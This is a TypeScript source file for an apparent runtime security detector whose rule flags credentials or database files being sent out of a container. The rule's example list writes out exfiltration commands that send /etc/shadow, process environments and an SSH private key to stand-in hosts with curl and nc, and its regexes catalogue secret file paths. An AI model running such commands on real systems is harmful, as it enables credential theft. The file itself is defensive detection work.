import type { Context } from '../context.ts';
import { short } from '../phrases.ts';
import type { Indicator } from './types.ts';
import { leaving } from './upload.ts';

/** Keys, tokens, passwords: nobody sends these on purpose. */
const CREDENTIALS =
  /\/etc\/(?:g?shadow|passwd|sudoers|security\/|krb5\.keytab|kubernetes\/|rancher\/|ssl\/private)|\/\.ssh(?:\/|\b)|\bid_(?:rsa|dsa|ecdsa|ed25519)\b|serviceaccount(?:\/|\b)|\/run\/secrets\/|\/proc\/(?:\d+|self|thread-self|\*)\/(?:environ|mem|maps|cmdline)|(?:^|[/\s])\.env(?:\b|\.)|\.(?:npmrc|pypirc|netrc|pgpass|my\.cnf|git-credentials|vault-token|htpasswd|dockercfg|s3cfg|boto|bash_history|zsh_history|mysql_history|psql_history|viminfo)\b|\/\.(?:aws|azure|kube|gnupg|config\/gcloud)(?:\/|\b)|\.docker\/config\.json|kubeconfig|admin\.conf|wp-config\.php|LocalSettings\.php|config\/database\.yml|master\.key|credentials(?:\.(?:json|xml|yml|yaml|csv|db))?\b|secrets?\.(?:ya?ml|json|env|txt)|\.tfstate|\.(?:pem|key|p12|pfx|jks|keystore|kdbx|ppk|asc|ovpn|keytab)\b|wallet\.dat|\b(?:printenv|env)\b(?!\/)/;
/** The data of a service: normal for a backup, never for anything else. */
const DATA =
  /\/var\/lib\/(?:mysql|postgresql|pgsql|mongodb|mongo|redis|couchdb|clickhouse|cassandra|elasticsearch|ldap|grafana|vault|etcd|influxdb|rabbitmq)|\b(?:mysqldump|mariadb-dump|pg_dump(?:all)?|mongodump|redis-cli|sqlite3|etcdctl)\b|\.(?:sql|dump|rdb|sqlite3?|db|mdb|frm|ibd|bak)(?:\.(?:gz|xz|bz2|zst|enc|gpg))?(?=$|[\s"'])/;

function isBackup(context: Context): boolean {
  return context.purpose_image || /^(?:CronJob|Job)$/.test(context.event.pod?.workload_kind ?? '');
}

/** What leaves is a secret or a database. */
export const sensitiveFile: Indicator = {
  id: 'sensitive_file',
  points: 30,
  hard: true,
  in_strings: true,
  mitre: ['T1552.001', 'T1005'],
  title: 'Secrets or databases leave',
  description:
    'What is sent holds credentials (shadow, SSH and cloud keys, service account tokens, environments, .env, kubeconfig) or the data of a database. Dumps sent by a backup image or a job are its purpose and do not count.',
  evaluate(context) {
    for (const text of leaving(context)) {
      if (CREDENTIALS.test(text)) {
        return {
          evidence: short(text),
          why: `what it sends holds credentials: ${short(text)}`,
          mitre: /serviceaccount/.test(text) ? ['T1528', 'T1552.001'] : ['T1552.001'],
        };
      }
      if (DATA.test(text) && !isBackup(context)) {
        return {
          evidence: short(text),
          why: `what it sends holds the data of a database: ${short(text)}`,
          mitre: ['T1005'],
        };
      }
    }
    return undefined;
  },
  examples: {
    fires: [
      { run: 'curl -F file=@/etc/shadow https://collect.example.net/u' },
      { run: 'curl -sd @/proc/1/environ http://203.0.113.9:8080/' },
      { run: "sh -c 'cat /root/.ssh/id_rsa | nc 203.0.113.9 8000'" },
    ],
    silent: [
      { run: 'curl -F file=@/app/report.csv https://collect.example.net/u' },
      { run: 'curl --cacert /etc/ssl/certs/ca.pem https://api.example.com/' },
      { run: 'rclone copy /backup/db.sql.gz remote:bucket', image: 'docker.io/rclone/rclone:1' },
    ],
  },
};
